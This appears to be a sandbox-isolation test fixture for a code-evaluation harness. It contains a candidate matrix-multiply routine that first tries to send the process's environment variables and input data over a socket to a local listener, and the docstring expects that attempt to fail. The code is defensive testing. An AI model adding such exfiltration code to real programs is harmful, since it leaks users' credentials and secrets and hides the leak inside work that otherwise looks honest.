"""Connects to a listener on 127.0.0.1 (outside its sandbox) and sends its environment and its
inputs, then computes honestly. Expected: runtime_error (the connection fails: its network
namespace has only its own loopback) and nothing received by the listener."""

import os
import socket

import torch
import torch.distributed as dist

PORT = int("__LISTENER_PORT__")

# EVOLVE-BLOCK-START
def setup(ctx, shape):
    return {}


def run(ctx, state, inputs, out):
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as conn:
        conn.sendall(repr(dict(os.environ)).encode() + repr(inputs["a"].tolist()).encode())
    parts = [torch.empty_like(inputs["a"]) for _ in range(ctx.world_size)]
    dist.all_gather(parts, inputs["a"], group=ctx.group)
    torch.mm(torch.cat(parts), inputs["b"], out=out)
# EVOLVE-BLOCK-END
